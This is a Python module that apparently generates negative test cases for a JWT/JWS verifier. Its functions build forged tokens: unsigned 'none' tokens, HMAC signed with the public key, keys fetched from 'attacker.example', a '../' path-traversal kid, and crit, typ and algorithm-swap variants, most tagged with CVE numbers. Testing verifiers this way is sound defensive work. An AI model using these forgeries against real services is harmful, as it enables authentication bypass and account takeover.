"""Tokens whose header brings a key, changes what is signed, or names a key that nobody registered."""

from collections.abc import Iterator, Mapping

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from connectors.attacks.attack_case import Row
from connectors.attacks.tokens.jws_text import ABSENT, Change, base64url, compact, hmac_with, signer, written
from connectors.attacks.tokens.token_benches import JWKS, TokenBench
from connectors.wire.claims import Json

_ELSEWHERE = "https://attacker.example/keys"
Headers = Mapping[str, Mapping[str, Change]]
_CRITICAL: Headers = {
    "crit that nobody knows, cve-2025-59420": {"crit": ["cnf"], "cnf": {"jkt": "x"}},
    "crit that is not there, cve-2026-32597": {"crit": ["x-policy"]},
    "crit that is empty": {"crit": []},
    "b64 without crit": {"b64": False},
    "zip": {"zip": "DEF"},
    "claims in the header": {"iss": "https://op.example"},
    "a policy in the header, cve-2026-16093": {"acr": "high"},
    "encryption": {"enc": "A256GCM"},
}
_TYPES: Mapping[str, Change] = {
    "null": None,
    "empty": "",
    "a list": ["JWT"],
    "a media type": "application/jwt",
    "jose": "JOSE",
}


def key_in_the_message(bench: TokenBench) -> Iterator[Row]:
    """The token says itself which key verifies it (RFC 7515 §4.1.2 to §4.1.6); a stranger made it."""
    jwk: Json = {**bench.strange.jwk, "kid": bench.key.kid}
    hints: Headers = {
        "jwk, cve-2026-27962": {"jwk": jwk},
        "jwk and no kid, cve-2018-0114": {"jwk": jwk, "kid": bench.strange.kid},
        "jku": {"jku": f"{_ELSEWHERE}.json"},
        "x5u": {"x5u": f"{_ELSEWHERE}.pem"},
        "x5c": {"x5c": ["MIIBdjCCARygAwIBAgIUX"]},
    }
    for what, members in hints.items():
        yield what, bench.forged(bench.strange.sign, **members), "jws_header"
    # Whoever signs with the right key has no need of it, and still may not
    right = bench.token(header={"jwk": {**bench.key.jwk}})
    yield "jwk of the right key", right, "jws_header"
    secret: Json = {"kty": "oct", "k": base64url(b"secret").decode(), "kid": bench.key.kid}
    symmetric = bench.forged(hmac_with(b"secret"), alg="HS256", jwk=secret)
    yield "jwk of a symmetric key", symmetric, "jws_header"


def critical_header(bench: TokenBench) -> Iterator[Row]:
    """Extensions that must be understood (RFC 7515 §4.1.11), and those that change what was signed."""
    for what, members in _CRITICAL.items():
        yield what, bench.token(header=members), "jws_header"
    # RFC 7797: the payload as it is, between two dots
    header, payload = compact(written(bench.header(b64=False, crit=["b64"]))), b'{"iss":"x"}'
    signature = base64url(bench.key.sign(header + b"." + payload))
    yield "b64 that is false", b".".join((header, payload, signature)), "jws_form"


def key_identifier(bench: TokenBench) -> Iterator[Row]:
    """A kid chooses among the party's keys, and does nothing else."""
    kid = bench.key.kid
    kids: dict[str, Change] = {
        "a path to an empty file": "../../../../../../dev/null",
        "null": None,
        "empty": "",
        "the right one in capitals": kid.upper(),
        "the right one with a blank": f"{kid} ",
    }
    if bench.rolling:
        kids["absent, of two keys"] = ABSENT
    for what, other in kids.items():
        yield what, bench.token(header={"kid": other}), "jws_kid"
    strange = bench.strange
    yield "a stranger's key under its own name", bench.forged(strange.sign, kid=strange.kid), "jws_kid"
    yield "a stranger's key under the name of ours", bench.forged(strange.sign), "jws_signature"


def token_type(bench: TokenBench) -> Iterator[Row]:
    """`typ` is that of the kind of token, exactly (RFC 8725 §3.11): whatever else the same key may sign is not it."""
    others = ("at+jwt", "dpop+jwt", "kb+jwt", "oauth-authz-req+jwt", "secevent+jwt")
    for what, typ in {**{kind: kind for kind in others}, **_TYPES}.items():
        yield what, bench.token(header={"typ": typ}), "jws_typ"


# CVE-2026-28802 (Authlib) and its forerunners since 2015: compared in another case than it was matched
_NONES: Mapping[str, Change] = {"none, cve-2026-28802": "none", "capitalised": "None", "null": None, "left out": ABSENT}
# Other algorithms of the same key
_SIBLINGS = {"RS256": ("RS1", "RS512", "PS256"), "PS256": ("RS256", "PS384"), "ES256": ("ES384",)}


def _unsigned(_: bytes) -> bytes:
    return b""


def algorithm_none(bench: TokenBench) -> Iterator[Row]:
    """Nobody signed it, and its header says so; or the genuine signature is left in place."""
    for what, alg in _NONES.items():
        yield f"unsigned, {what}", bench.forged(_unsigned, alg=alg), "jws_alg"
    yield "signed all the same", bench.token(header={"alg": "none"}), "jws_alg"
    yield "unsigned, and no kid", bench.forged(_unsigned, alg="none", kid=ABSENT), "jws_alg"
    # RFC 7515 appendix A.5 has the last dot; readers that split and pad have taken tokens without it
    two_parts = bench.forged(_unsigned, alg="none").removesuffix(b".")
    yield "unsigned, two parts", two_parts, "jws_form"
    # CVE-2020-28042 (ServiceStack): an empty signature was not compared
    name = "registered algorithm, empty signature, cve-2020-28042"
    yield name, bench.forged(_unsigned), "jws_signature"


def algorithm_confusion(bench: TokenBench) -> Iterator[Row]:
    """HMAC under what everybody knows: the public key in each of its spellings."""
    secrets = _public_secrets(bench)
    for what, secret in secrets.items():
        yield f"hs256 with {what}", bench.forged(hmac_with(secret), alg="HS256"), "jws_alg"
    pem = secrets["the public key in pem, cve-2015-9235"]
    stronger = bench.forged(hmac_with(pem, "HS512"), alg="HS512")
    yield "hs512 with the public key in pem", stronger, "jws_alg"
    # The header is honest about the registration, so that only the key can tell
    yield "registered algorithm, and a mac", bench.forged(hmac_with(pem)), "jws_signature"


def another_algorithm(bench: TokenBench) -> Iterator[Row]:
    """Honest signatures of honest keys, but not of the algorithm that is registered for this kind of token."""
    for other in bench.others:
        octets = bench.forged(other.sign, alg=other.alg, kid=other.kid)
        yield f"{other.alg} by the party's own key", octets, "jws_alg"
    other = bench.others[0]
    named = bench.forged(other.sign, kid=other.kid)
    yield f"called the registered one, by the key for {other.alg}", named, "jws_kid"
    yield f"called the registered one, signed by {other.alg}", bench.forged(other.sign), "jws_signature"
    for alg in _SIBLINGS.get(bench.key.alg, ()):
        sign = signer(bench.key.private, alg)
        yield f"{alg} by the registered key", bench.forged(sign, alg=alg), "jws_alg"
        yield f"called the registered one, made by {alg}", bench.forged(sign), "jws_signature"
    spelled: Mapping[str, Change] = {"in other case": bench.key.alg.swapcase(), "in a list": [bench.key.alg]}
    for what, spelling in spelled.items():
        yield f"registered one {what}", bench.token(header={"alg": spelling}), "jws_alg"


def _public_secrets(bench: TokenBench) -> dict[str, bytes]:
    """Public halves of a key pair, as libraries have taken them for a secret."""
    public = bench.key.private.public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = {**bench.key.jwk, "kid": bench.key.kid, "use": "sig", "alg": bench.key.alg}
    return {
        "the public key in pem, cve-2015-9235": pem,
        "the public key in pem without its line end, cve-2024-37568": pem.rstrip(),
        "the public key in der, cve-2024-33663": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "the public key of ssh, cve-2022-29217": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "the jwk, cve-2026-48526": written(jwk),
        "the jwks": bench.entrance.files[JWKS],
        "an empty key": b"",
    }
